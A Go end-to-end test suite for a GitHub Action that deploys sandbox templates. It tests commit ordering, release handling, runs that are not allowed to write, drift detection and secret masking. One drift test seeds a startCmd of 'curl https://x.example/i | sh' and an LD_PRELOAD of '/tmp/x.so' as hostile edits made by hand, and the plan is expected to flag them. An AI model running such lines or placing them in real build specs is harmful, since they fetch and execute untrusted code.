package e2e

import (
	"fmt"
	"maps"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/miosa-dev/sandbox-templates-action/internal/emulator"
	"github.com/miosa-dev/sandbox-templates-action/internal/github/githubtest"
)

// Commit order from git: a run writes a template only when its file's
// content is what the deploy target's head holds, as GitHub (a fake with a
// git model, over HTTP) says. Every case runs against the emulator's
// default, Miosa's rendering.

// with returns env with more set.
func with(env map[string]string, more map[string]string) map[string]string {
	out := maps.Clone(env)
	maps.Copy(out, more)
	return out
}

// mustRun runs the action and fails the test unless it exits with code.
func mustRun(t *testing.T, code int, what string, w *workspace, env, in map[string]string) step {
	t.Helper()
	s := runAction(t, w, env, in)
	if s.Code != code {
		t.Fatalf("%s: exit %d, want %d\n%s", what, s.Code, code, s.log())
	}
	return s
}

// onlyItem is the plan's one item.
func onlyItem(t *testing.T, s step) planOut {
	t.Helper()
	items := planItems(t, s)
	if len(items) != 1 {
		t.Fatalf("plan %+v, want one item", items)
	}
	return items[0]
}

// Quick successive pushes and a revert: c1 changes the spec and c2 reverts
// it two seconds later. Whichever order the runs come in, the newest commit
// deploys and the older run skips, green, with nothing built.
func TestOrderRapidPushesAndRevert(t *testing.T) {
	t.Parallel()
	t.Run("the older run comes last", func(t *testing.T) {
		t.Parallel()
		e, h := startEmulator(t, nil), newGitTimeline(t)
		h.push(nodeTemplate("node:22"))
		mustRun(t, 0, "c0", h.checkout(t, 0), h.env(t, 0), ghInputs(e, nil))
		h.push(nodeTemplate("node:99-broken"))
		h.push(nodeTemplate("node:22"))
		s2 := mustRun(t, 0, "c2 (the revert)", h.checkout(t, 2), h.env(t, 2), ghInputs(e, nil))
		if it := onlyItem(t, s2); it.Action != "unchanged" {
			t.Errorf("c2: %+v, want unchanged (c0's build serves the reverted spec)", it)
		}
		s1 := mustRun(t, 0, "c1, after c2", h.checkout(t, 1), h.env(t, 1), ghInputs(e, nil))
		if it := onlyItem(t, s1); it.Action != "superseded" || s1.Outputs["has-changes"] != "false" {
			t.Errorf("c1 after c2: %+v has-changes %s, want superseded and false", it, s1.Outputs["has-changes"])
		}
		if from, n := servedSpec(t, e, "app"); from != "node:22" || n != 1 {
			t.Errorf("serves %s with %d builds, want node:22 and 1: the broken spec never built", from, n)
		}
	})
	t.Run("the older run built first", func(t *testing.T) {
		t.Parallel()
		e, h := startEmulator(t, nil), newGitTimeline(t)
		h.push(nodeTemplate("node:22"))
		mustRun(t, 0, "c0", h.checkout(t, 0), h.env(t, 0), ghInputs(e, nil))
		h.push(nodeTemplate("node:99-broken"))
		mustRun(t, 0, "c1", h.checkout(t, 1), h.env(t, 1), ghInputs(e, nil))
		h.push(nodeTemplate("node:22"))
		s2 := mustRun(t, 0, "c2 (the revert), after c1 built", h.checkout(t, 2), h.env(t, 2), ghInputs(e, nil))
		it := onlyItem(t, s2)
		if it.Action != "build" || !strings.Contains(it.Evidence, "main at "+h.shas[2][:12]+" holds this file") {
			t.Errorf("c2: %+v, want a build decided by main's head", it)
		}
		if from, n := servedSpec(t, e, "app"); from != "node:22" || n != 3 {
			t.Errorf("serves %s with %d builds, want node:22 and 3", from, n)
		}
		// "Re-run jobs" of c2 and of c1: nothing more.
		mustRun(t, 0, "c2 again", h.checkout(t, 2), h.env(t, 2), ghInputs(e, nil))
		mustRun(t, 0, "c1 again", h.checkout(t, 1), h.env(t, 1), ghInputs(e, nil))
		if _, n := servedSpec(t, e, "app"); n != 3 {
			t.Errorf("%d builds after the re-runs, want 3", n)
		}
	})
}

// A force-push resets main to c0 after c1 applied: c0's run deploys c0's
// spec again, and a re-run of c1 is then off the target (a warning, green,
// nothing built). A deleted target branch skips, saying so.
func TestOrderForcePushResetAndDeletedBranch(t *testing.T) {
	t.Parallel()
	e, h := startEmulator(t, nil), newGitTimeline(t)
	h.push(nodeTemplate("node:22"))
	mustRun(t, 0, "c0", h.checkout(t, 0), h.env(t, 0), ghInputs(e, nil))
	h.push(nodeTemplate("node:24"))
	mustRun(t, 0, "c1", h.checkout(t, 1), h.env(t, 1), ghInputs(e, nil))
	h.g.SetBranch("main", h.shas[0])
	mustRun(t, 0, "c0 after the reset", h.checkout(t, 0), h.env(t, 0), ghInputs(e, nil))
	if from, n := servedSpec(t, e, "app"); from != "node:22" || n != 3 {
		t.Errorf("serves %s with %d builds, want node:22 and 3", from, n)
	}
	s := mustRun(t, 0, "c1 after the reset", h.checkout(t, 1), h.env(t, 1), ghInputs(e, nil))
	if it := onlyItem(t, s); it.Action != "off-target" || !strings.Contains(it.Reason, "behind this commit") || len(warnings(s)) != 1 {
		t.Errorf("c1 after the reset: %+v, warnings %q; want off-target with one warning", it, warnings(s))
	}
	if from, n := servedSpec(t, e, "app"); from != "node:22" || n != 3 {
		t.Errorf("serves %s with %d builds, want node:22 and 3", from, n)
	}
	// A run whose target branch was deleted since.
	s = mustRun(t, 0, "a deleted target branch", h.checkout(t, 1), h.env(t, 1), ghInputs(e, map[string]string{"target-ref": "gone"}))
	if it := onlyItem(t, s); it.Action != "off-target" || !strings.Contains(it.Reason, "no longer exists") {
		t.Errorf("deleted branch: %+v, want off-target saying it no longer exists", it)
	}
}

// Release runs deploy the latest release; a re-run of an older release's
// run (or a prerelease) skips, green, with nothing built.
func TestOrderReleases(t *testing.T) {
	t.Parallel()
	e, h := startEmulator(t, nil), newGitTimeline(t)
	release := func(i int, tag string) map[string]string {
		env := h.g.env(t, "release", h.shas[i], map[string]any{"release": map[string]any{"tag_name": tag}})
		return with(env, map[string]string{"GITHUB_REF": "refs/tags/" + tag})
	}
	h.push(nodeTemplate("node:22"))
	h.g.Tag("v1", h.shas[0])
	h.g.Release("v1", false, true)
	mustRun(t, 0, "v1", h.checkout(t, 0), release(0, "v1"), ghInputs(e, nil))
	h.push(nodeTemplate("node:24"))
	h.g.Tag("v2", h.shas[1])
	h.g.Release("v2", false, true)
	s := mustRun(t, 0, "v2", h.checkout(t, 1), release(1, "v2"), ghInputs(e, map[string]string{"wait": "true", "poll-interval": "1s"}))
	if s.Outputs["status"] != "success" || servedFrom(t, e) != "node:24" {
		t.Fatalf("v2: status %s, serves %s", s.Outputs["status"], servedFrom(t, e))
	}
	old := mustRun(t, 0, "a re-run of v1's release run", h.checkout(t, 0), release(0, "v1"), ghInputs(e, nil))
	if it := onlyItem(t, old); it.Action != "superseded" || !strings.Contains(it.Reason, "not the latest release (v2)") {
		t.Errorf("v1 re-run: %+v, want superseded naming v2", it)
	}
	h.push(nodeTemplate("node:26"))
	h.g.Tag("v3-rc1", h.shas[2])
	h.g.Release("v3-rc1", true, false)
	pre := mustRun(t, 0, "a prerelease", h.checkout(t, 2), release(2, "v3-rc1"), ghInputs(e, nil))
	if it := onlyItem(t, pre); it.Action != "superseded" {
		t.Errorf("prerelease: %+v, want superseded", it)
	}
	if from, n := servedSpec(t, e, "app"); from != "node:24" || n != 2 {
		t.Errorf("serves %s with %d builds, want node:24 and 2", from, n)
	}
}

// servedFrom is the from of the spec app serves.
func servedFrom(t *testing.T, e *emu) string {
	from, _ := servedSpec(t, e, "app")
	return from
}

// workflow_run and workflow_dispatch at main's head deploy; a workflow_run
// of a pull request or a fork never writes; a push to another branch needs
// target-ref.
func TestOrderEvents(t *testing.T) {
	t.Parallel()
	e, h := startEmulator(t, nil), newGitTimeline(t)
	h.push(nodeTemplate("node:22"))
	run := func(repo, event string) map[string]any {
		return map[string]any{"workflow_run": map[string]any{"head_sha": h.shas[0], "head_branch": "main", "event": event,
			"head_repository": map[string]any{"full_name": repo}}}
	}
	fork := mustRun(t, 0, "a fork's workflow_run", h.checkout(t, 0), h.g.env(t, "workflow_run", h.shas[0], run("someone/fork", "push")), ghInputs(e, nil))
	pr := mustRun(t, 0, "a pull request's workflow_run", h.checkout(t, 0), h.g.env(t, "workflow_run", h.shas[0], run("acme/platform", "pull_request")), ghInputs(e, nil))
	for _, s := range []step{fork, pr} {
		if !strings.Contains(s.Stdout, "This run only plans") || e.Counters().Writes != 0 {
			t.Fatalf("a workflow_run that must not write: %d writes\n%s", e.Counters().Writes, s.log())
		}
	}
	mustRun(t, 0, "workflow_run", h.checkout(t, 0), h.g.env(t, "workflow_run", h.shas[0], run("acme/platform", "push")), ghInputs(e, nil))
	if servedFrom(t, e) != "node:22" {
		t.Fatal("workflow_run at the head did not deploy")
	}
	h.push(nodeTemplate("node:24"))
	mustRun(t, 0, "workflow_dispatch", h.checkout(t, 1), h.g.env(t, "workflow_dispatch", h.shas[1], nil), ghInputs(e, nil))
	if servedFrom(t, e) != "node:24" {
		t.Fatal("workflow_dispatch at the head did not deploy")
	}
	branch := mustRun(t, 2, "a push to another branch", h.checkout(t, 1),
		with(h.env(t, 1), map[string]string{"GITHUB_REF": "refs/heads/feature"}), ghInputs(e, nil))
	if !strings.Contains(branch.Stdout, "::error::input target-ref: pushes to feature do not deploy by default") {
		t.Errorf("want an error naming target-ref:\n%s", branch.Stdout)
	}
}

// Without a token (or when GitHub refuses), a push falls back to the
// clock rule with a warning saying why; a release, which has no commit
// time, refuses to write.
func TestOrderWithoutGitHub(t *testing.T) {
	t.Parallel()
	c, h := &clock{}, newGitTimeline(t)
	e := reconcileEmulator(t, false, c, nil)
	h.push(nodeTemplate("node:22"))
	c.at(h.during(0))
	push := mustRun(t, 0, "a push without a token", h.checkout(t, 0), h.env(t, 0), apiInputs(e, map[string]string{"github-token": ""}))
	if w := warnings(push); len(w) != 1 || !strings.Contains(w[0], "no github-token") || servedFrom(t, e) != "node:22" {
		t.Errorf("warnings %q, serves %s; want one warning about the token, and the build", w, servedFrom(t, e))
	}
	h.g.AddFault(githubtest.Fault{Op: githubtest.OpCommit, Status: 403, Message: "Resource not accessible by integration", Times: 10})
	h.push(nodeTemplate("node:24"))
	c.at(h.during(1))
	refused := mustRun(t, 0, "a push GitHub refuses", h.checkout(t, 1), h.env(t, 1), ghInputs(e, nil))
	if w := warnings(refused); len(w) != 1 || !strings.Contains(w[0], "403") || servedFrom(t, e) != "node:24" {
		t.Errorf("warnings %q; want one naming the 403, and the clock rule's build", w)
	}
	rel := with(h.g.env(t, "release", h.shas[1], map[string]any{"release": map[string]any{"tag_name": "v1"}}), map[string]string{"GITHUB_REF": "refs/tags/v1"})
	h.push(nodeTemplate("node:26"))
	s := mustRun(t, 1, "a release without a token", h.checkout(t, 2), rel, apiInputs(e, map[string]string{"github-token": ""}))
	if it := onlyItem(t, s); it.Action != "refused" || !strings.Contains(it.Reason, "no commit time") {
		t.Errorf("release without a token: %+v, want refused", it)
	}
	if servedFrom(t, e) != "node:24" {
		t.Error("the release without a token wrote")
	}
}

// GitHub Enterprise Server: the API under /api/v3, as GITHUB_API_URL says.
// At most 3 GitHub requests a run, whatever the number of templates.
func TestOrderGHESAndRequestCount(t *testing.T) {
	t.Parallel()
	g := &gitHub{githubtest.New(githubtest.Options{Prefix: githubtest.GHESPrefix, Repository: "acme/platform"})}
	g.SetToken(ghToken)
	t.Cleanup(g.Close)
	e := startEmulator(t, nil)
	files := perfTemplates(20)
	sha := g.commit("main", files)
	w := newWorkspace(t, files)
	mustRun(t, 0, "GHES", w, g.env(t, "push", sha, nil), ghInputs(e, nil))
	c := g.Counts()
	if n := c.Repo + c.Commit + c.Contents + c.Tree + c.Compare + c.LatestRelease; n > 3 {
		t.Errorf("%d GitHub requests for 20 templates, want at most 3: %+v", n, c)
	}
	if e.Counters().BuildsCreated != 20 {
		t.Errorf("%d builds, want 20", e.Counters().BuildsCreated)
	}
	// A newer commit changed one file: the old run writes nothing, with 3
	// requests (the head, the blobs, the comparison).
	changed := maps.Clone(files)
	changed["sandbox-templates/perf-003.yaml"] += "    - run: echo changed\n"
	g.commit("main", changed)
	w.write(t, "sandbox-templates/perf-003.yaml", files["sandbox-templates/perf-003.yaml"]+"    - run: echo older\n")
	before := g.Counts()
	s := mustRun(t, 0, "an older run with a change of its own", w, g.env(t, "push", sha, nil), ghInputs(e, map[string]string{"scope": "all"})) // the order's requests alone
	after := g.Counts()
	if n := after.Commit + after.Contents + after.Tree + after.Compare - before.Commit - before.Contents - before.Tree - before.Compare; n != 3 {
		t.Errorf("%d GitHub requests, want 3", n)
	}
	for _, it := range planItems(t, s) {
		if it.Name == "perf-003" && it.Action != "superseded" {
			t.Errorf("perf-003: %+v, want superseded", it)
		}
	}
}

// Removing a field deploys, and the diff names only what changed (no
// phantom size or resources removed).
func TestRemovedFieldDeploys(t *testing.T) {
	t.Parallel()
	e := startEmulator(t, nil)
	full := "build_spec:\n  from: node:22\n  size: medium\n  env:\n    FEATURE_FLAG: \"1\"\n  previewPort: 3000\n  startCmd: npm start\n"
	w := newWorkspace(t, map[string]string{"sandbox-templates/app.yaml": full})
	mustRun(t, 0, "c1", w, withSHA(shaA), apiInputs(e, nil))
	w.write(t, "sandbox-templates/app.yaml", "build_spec:\n  from: node:22\n  size: medium\n")
	s := mustRun(t, 0, "c2 removes fields", w, withSHA(shaB), apiInputs(e, nil))
	it := onlyItem(t, s)
	var paths []string
	for _, c := range it.Changes {
		paths = append(paths, c.Path)
	}
	want := "build_spec.env.FEATURE_FLAG build_spec.previewPort build_spec.startCmd"
	if it.Action != "build" || strings.Join(paths, " ") != want {
		t.Errorf("c2: %s with changes %v, want a build changing exactly %s", it.Action, paths, want)
	}
	bs := e.State().Templates[0].BuildSpec
	if bs["startCmd"] != nil || bs["previewPort"] != nil {
		t.Errorf("the template still serves the removed fields: %v", bs)
	}
	again := mustRun(t, 0, "c2 again", w, withSHA(shaB), apiInputs(e, nil))
	if it := onlyItem(t, again); it.Action != "unchanged" {
		t.Errorf("re-run: %+v, want unchanged", it)
	}
}

// A build made by hand that adds fields is drift: a scheduled plan with
// fail-on-changes fails naming each field, and apply rebuilds the file's
// spec once.
func TestAddedFieldDrift(t *testing.T) {
	t.Parallel()
	e := startEmulator(t, nil)
	w := newWorkspace(t, nodeTemplate("node:22"))
	first := mustRun(t, 0, "apply", w, withSHA(shaA), apiInputs(e, nil))
	var ids map[string]string
	first.json(t, "template-ids", &ids)
	if _, err := e.SeedBuild(ids["app"], emulator.BuildSeed{BuildSpec: map[string]any{"from": "node:22", "steps": []any{map[string]any{"run": "npm ci"}},
		"startCmd": "curl https://x.example/i | sh", "env": map[string]any{"LD_PRELOAD": "/tmp/x.so"}, "user": "nobody"}}); err != nil {
		t.Fatal(err)
	}
	plan := mustRun(t, 1, "scheduled plan", w, with(withSHA(shaA), map[string]string{"GITHUB_EVENT_NAME": "schedule"}),
		apiInputs(e, map[string]string{"mode": "plan", "fail-on-changes": "true"}))
	it := onlyItem(t, plan)
	got := fmt.Sprint(it.Changes)
	for _, f := range []string{"build_spec.startCmd", "build_spec.env.LD_PRELOAD", "build_spec.user"} {
		if !strings.Contains(got, f) {
			t.Errorf("plan changes %s, want %s named", got, f)
		}
	}
	mustRun(t, 0, "apply repairs", w, withSHA(shaA), apiInputs(e, nil))
	mustRun(t, 0, "plan after", w, withSHA(shaA), apiInputs(e, map[string]string{"mode": "plan", "fail-on-changes": "true"}))
	if _, n := servedSpec(t, e, "app"); n != 3 {
		t.Errorf("%d builds, want 3 (the first, the one by hand, one repair)", n)
	}
}

// A field the server rewrites (from, fully qualified) is compared in the
// server's own form: the second run builds nothing.
func TestServerRewrittenFieldNeverRebuilds(t *testing.T) {
	t.Parallel()
	e := startEmulator(t, func(o *emulator.Options) { o.CanonicalImages = true })
	w := newWorkspace(t, nodeTemplate("node:22"))
	mustRun(t, 0, "create", w, withSHA(shaA), apiInputs(e, nil))
	before := e.Counters()
	for _, sha := range []string{shaA, shaB} {
		s := mustRun(t, 0, "again", w, withSHA(sha), apiInputs(e, nil))
		if it := onlyItem(t, s); it.Action != "unchanged" {
			t.Errorf("%s: %+v, want unchanged", sha, it)
		}
	}
	if e.Counters().Writes != before.Writes {
		t.Errorf("%d writes, want none", e.Counters().Writes-before.Writes)
	}
}

// A teammate's template named "api" (slug api-playground) is not the
// repository's api.yaml: it is confirmed by slug before any write, the
// repository's own template is created, and the teammate's is left alone.
func TestDisplayNameClash(t *testing.T) {
	t.Parallel()
	e := startEmulator(t, nil)
	mate, err := e.SeedTemplate(emulator.TemplateSeed{Name: "api", Slug: "api-playground", BuildSpec: map[string]any{"from": "python:3.12"}})
	if err != nil {
		t.Fatal(err)
	}
	w := newWorkspace(t, map[string]string{"sandbox-templates/api.yaml": "build_spec:\n  from: node:22\n"})
	s := mustRun(t, 0, "apply", w, withSHA(shaA), apiInputs(e, nil))
	var ids map[string]string
	s.json(t, "template-ids", &ids)
	if ids["api"] == "" || ids["api"] == mate.ID {
		t.Errorf("template-ids %v: want the repository's own template, not the teammate's %s", ids, mate.ID)
	}
	if n := e.BuildsOf("api"); n < 1 {
		t.Errorf("no build of the repository's api")
	}
	for _, b := range e.State().Builds {
		if b.TemplateID == mate.ID && b.BuildSpec["from"] != "python:3.12" {
			t.Errorf("the teammate's template was built with %v", b.BuildSpec)
		}
	}
	before := e.Counters()
	mustRun(t, 0, "again", w, withSHA(shaB), apiInputs(e, nil))
	if e.Counters().Writes != before.Writes {
		t.Errorf("the second run wrote %d times", e.Counters().Writes-before.Writes)
	}
}

// A template deleted on the server is made again at the same commit: the
// create's key replays the deleted template, so it is retried once under a
// key naming the vanished id, and template-ids names the new one.
func TestDeletedTemplateIsRecreated(t *testing.T) {
	t.Parallel()
	e := startEmulator(t, nil)
	w := newWorkspace(t, nodeTemplate("node:22"))
	first := mustRun(t, 0, "create", w, withSHA(shaA), apiInputs(e, nil))
	var ids map[string]string
	first.json(t, "template-ids", &ids)
	if err := e.DeleteTemplate(ids["app"]); err != nil {
		t.Fatal(err)
	}
	for i := range 2 {
		s := mustRun(t, 0, "re-run after the delete", w, withSHA(shaA), apiInputs(e, nil))
		var again map[string]string
		s.json(t, "template-ids", &again)
		if again["app"] == "" || again["app"] == ids["app"] || len(e.State().Templates) != 1 {
			t.Errorf("run %d: template-ids %v, %d templates; want a new id, one template", i, again, len(e.State().Templates))
		}
	}
	st := e.State()
	n := 0
	for _, b := range st.Builds {
		if len(st.Templates) == 1 && b.TemplateID == st.Templates[0].ID {
			n++
		}
	}
	if n != 1 {
		t.Errorf("%d builds of the new template, want 1", n)
	}
}

// A push run and a release run at one commit race: keyed bodies hold
// nothing that varies by event, so both succeed with one build.
func TestPushAndReleaseRaceAtOneCommit(t *testing.T) {
	t.Parallel()
	e, h := startEmulator(t, func(o *emulator.Options) { o.Faults.Latency = 100 * time.Millisecond }), newGitTimeline(t)
	h.push(nodeTemplate("node:22"))
	h.g.Tag("v1", h.shas[0])
	h.g.Release("v1", false, true)
	envs := []map[string]string{
		h.env(t, 0),
		with(h.g.env(t, "release", h.shas[0], map[string]any{"release": map[string]any{"tag_name": "v1"}}), map[string]string{"GITHUB_REF": "refs/tags/v1"}),
	}
	steps := make([]step, 2)
	var wg sync.WaitGroup
	for i, env := range envs {
		wg.Add(1)
		go func() {
			defer wg.Done()
			steps[i] = runAction(t, h.checkout(t, 0), env, ghInputs(e, nil))
		}()
	}
	wg.Wait()
	for i, s := range steps {
		if s.Code != 0 || strings.Contains(s.log(), "IDEMPOTENCY_PAYLOAD_MISMATCH") {
			t.Errorf("run %d: exit %d\n%s", i, s.Code, s.log())
		}
	}
	if steps[0].Outputs["build-ids"] != steps[1].Outputs["build-ids"] || e.BuildsOf("app") != 1 {
		t.Errorf("build-ids %s and %s, %d builds; want the same one build", steps[0].Outputs["build-ids"], steps[1].Outputs["build-ids"], e.BuildsOf("app"))
	}
}

// Found by review, each a run that must not write: a late workflow_run of an
// older commit (GITHUB_SHA is the default branch's head on workflow_run), a
// workflow_run of another branch, a pull request or merge queue run with
// mode: apply, and a repository_dispatch with no commit time when GitHub
// cannot answer.
func TestOrderRunsThatMustNotWrite(t *testing.T) {
	t.Parallel()
	e, h := startEmulator(t, nil), newGitTimeline(t)
	h.push(nodeTemplate("node:22"))
	h.push(nodeTemplate("node:24"))
	wr := func(sha, branch string) map[string]any {
		return map[string]any{"workflow_run": map[string]any{"head_sha": sha, "head_branch": branch, "event": "push",
			"head_repository": map[string]any{"full_name": "acme/platform"}}}
	}
	mustRun(t, 0, "workflow_run of c1", h.checkout(t, 1), h.g.env(t, "workflow_run", h.shas[1], wr(h.shas[1], "main")), ghInputs(e, nil))
	late := mustRun(t, 0, "a late workflow_run of c0", h.checkout(t, 0), h.g.env(t, "workflow_run", h.shas[1], wr(h.shas[0], "main")), ghInputs(e, nil))
	if it := onlyItem(t, late); it.Action != "superseded" || servedFrom(t, e) != "node:24" {
		t.Errorf("late workflow_run of c0: %+v, serves %s; want superseded, node:24", it, servedFrom(t, e))
	}
	feat := h.g.Commit([]string{h.shas[1]}, nodeTemplate("node:99-feature"))
	h.g.SetBranch("feature", feat)
	s := mustRun(t, 0, "a workflow_run of another branch", newWorkspace(t, nodeTemplate("node:99-feature")),
		h.g.env(t, "workflow_run", h.shas[1], wr(feat, "feature")), ghInputs(e, nil))
	if !strings.Contains(s.Stdout, "only the default branch (main) deploys") || servedFrom(t, e) != "node:24" {
		t.Errorf("feature branch: serves %s\n%s", servedFrom(t, e), s.Stdout)
	}
	for _, event := range []string{"pull_request", "merge_group"} {
		env := with(h.g.env(t, event, h.shas[1], map[string]any{"pull_request": map[string]any{"number": 7}}), map[string]string{"GITHUB_REF": "refs/pull/7/merge"})
		s := mustRun(t, 0, event+" with mode: apply", newWorkspace(t, nodeTemplate("node:99-from-pr")), env, ghInputs(e, map[string]string{"mode": "apply", "pr-comment": "never"}))
		if !strings.Contains(s.Stdout, "never writes") || servedFrom(t, e) != "node:24" {
			t.Errorf("%s with mode: apply wrote: serves %s\n%s", event, servedFrom(t, e), s.Stdout)
		}
	}
	h.push(nodeTemplate("node:26"))
	s = mustRun(t, 1, "repository_dispatch without a token", h.checkout(t, 2), h.g.env(t, "repository_dispatch", h.shas[2], nil),
		apiInputs(e, map[string]string{"github-token": "", "target-ref": "main"}))
	if it := onlyItem(t, s); it.Action != "refused" || servedFrom(t, e) != "node:24" {
		t.Errorf("repository_dispatch without a token: %+v, serves %s; want refused", it, servedFrom(t, e))
	}
}

// A display-name match that cannot be confirmed (the slug lookup fails) is
// never written to; and once the repository's own template exists, a plan
// confirms the match too, so a drift check passes.
func TestDisplayNameUnconfirmedAndPlan(t *testing.T) {
	t.Parallel()
	e := startEmulator(t, func(o *emulator.Options) {
		o.Faults.Rules = []emulator.Rule{{Endpoint: "get", Kind: emulator.FaultStatus, Status: 503, Count: 100}}
	})
	mate, err := e.SeedTemplate(emulator.TemplateSeed{Name: "api", Slug: "api-playground", BuildSpec: map[string]any{"from": "python:3.12"}})
	if err != nil {
		t.Fatal(err)
	}
	w := newWorkspace(t, map[string]string{"sandbox-templates/api.yaml": "build_spec:\n  from: node:22\n"})
	s := mustRun(t, 1, "apply while the slug lookup fails", w, withSHA(shaA), apiInputs(e, map[string]string{"timeout": "60s"}))
	if e.Counters().Writes != 0 || !strings.Contains(s.log(), "confirm the template named") {
		t.Errorf("%d writes, want 0 and a problem saying why\n%s", e.Counters().Writes, s.log())
	}
	e.Configure(func(o *emulator.Options) { o.Faults.Rules = nil })
	mustRun(t, 0, "apply", w, withSHA(shaA), apiInputs(e, nil))
	plan := mustRun(t, 0, "a drift check after the apply", w, withSHA(shaA), apiInputs(e, map[string]string{"mode": "plan", "fail-on-changes": "true"}))
	if it := onlyItem(t, plan); it.Action != "unchanged" {
		t.Errorf("plan: %+v, want unchanged", it)
	}
	for _, b := range e.State().Builds {
		if b.TemplateID == mate.ID && b.BuildSpec["from"] != "python:3.12" {
			t.Errorf("the teammate's template was built with %v", b.BuildSpec)
		}
	}
}

// A template deleted again and again at one commit is created again each
// time, under keys that name the vanished templates.
func TestDeletedTwiceIsRecreated(t *testing.T) {
	t.Parallel()
	e := startEmulator(t, nil)
	w := newWorkspace(t, nodeTemplate("node:22"))
	ids := func(s step) map[string]string {
		var m map[string]string
		s.json(t, "template-ids", &m)
		return m
	}
	s := mustRun(t, 0, "create", w, withSHA(shaA), apiInputs(e, nil))
	for i := range 2 {
		if err := e.DeleteTemplate(ids(s)["app"]); err != nil {
			t.Fatal(err)
		}
		s = mustRun(t, 0, fmt.Sprintf("re-run after delete %d", i+1), w, withSHA(shaA), apiInputs(e, nil))
		if got := ids(s)["app"]; got == "" || len(e.State().Templates) != 1 || e.State().Templates[0].ID != got {
			t.Errorf("after delete %d: template-ids %v, templates %+v", i+1, ids(s), e.State().Templates)
		}
	}
}

// A build made by hand holding secrets in env: the scheduled drift check
// names the env keys, and no served value reaches the log (beyond the
// runner's own add-mask lines), the summary or the outputs.
func TestServedSecretsNeverShown(t *testing.T) {
	t.Parallel()
	e := startEmulator(t, nil)
	w := newWorkspace(t, nodeTemplate("node:22"))
	first := mustRun(t, 0, "apply", w, withSHA(shaA), apiInputs(e, nil))
	var ids map[string]string
	first.json(t, "template-ids", &ids)
	secrets := []string{"hunter2", "npm_0123456789abcdefABCDEF"}
	if _, err := e.SeedBuild(ids["app"], emulator.BuildSeed{BuildSpec: map[string]any{"from": "node:22", "steps": []any{map[string]any{"run": "npm ci"}},
		"env": map[string]any{"DATABASE_URL": "postgres://admin:" + secrets[0] + "@db.internal/prod", "NPM_RC": "//npm.example/:_authToken=" + secrets[1]}}}); err != nil {
		t.Fatal(err)
	}
	plan := mustRun(t, 1, "scheduled drift check", w, with(withSHA(shaA), map[string]string{"GITHUB_EVENT_NAME": "schedule"}),
		apiInputs(e, map[string]string{"mode": "plan", "fail-on-changes": "true"}))
	if it := onlyItem(t, plan); !strings.Contains(fmt.Sprint(it.Changes), "build_spec.env.DATABASE_URL") {
		t.Errorf("changes %v, want the env key named", it.Changes)
	}
	var log []string
	for _, l := range strings.Split(plan.log(), "\n") {
		if !strings.HasPrefix(l, "::add-mask::") {
			log = append(log, l)
		}
	}
	for _, secret := range secrets {
		for where, text := range map[string]string{"log": strings.Join(log, "\n"), "summary": plan.Summary, "outputs": plan.rawOut} {
			if strings.Contains(text, secret) {
				t.Errorf("the %s shows the served secret %q", where, secret)
			}
		}
	}
}

// A workflow_dispatch re-run of an older commit after a newer one applied
// is superseded, like a push's.
func TestOldDispatchRerunIsSuperseded(t *testing.T) {
	t.Parallel()
	e, h := startEmulator(t, nil), newGitTimeline(t)
	h.push(nodeTemplate("node:22"))
	mustRun(t, 0, "dispatch of c0", h.checkout(t, 0), h.g.env(t, "workflow_dispatch", h.shas[0], nil), ghInputs(e, nil))
	h.push(nodeTemplate("node:24"))
	mustRun(t, 0, "push of c1", h.checkout(t, 1), h.env(t, 1), ghInputs(e, nil))
	again := mustRun(t, 0, "a re-run of c0's dispatch", h.checkout(t, 0), h.g.env(t, "workflow_dispatch", h.shas[0], nil), ghInputs(e, nil))
	if it := onlyItem(t, again); it.Action != "superseded" || servedFrom(t, e) != "node:24" {
		t.Errorf("re-run of c0: %+v, serves %s; want superseded and node:24", it, servedFrom(t, e))
	}
}
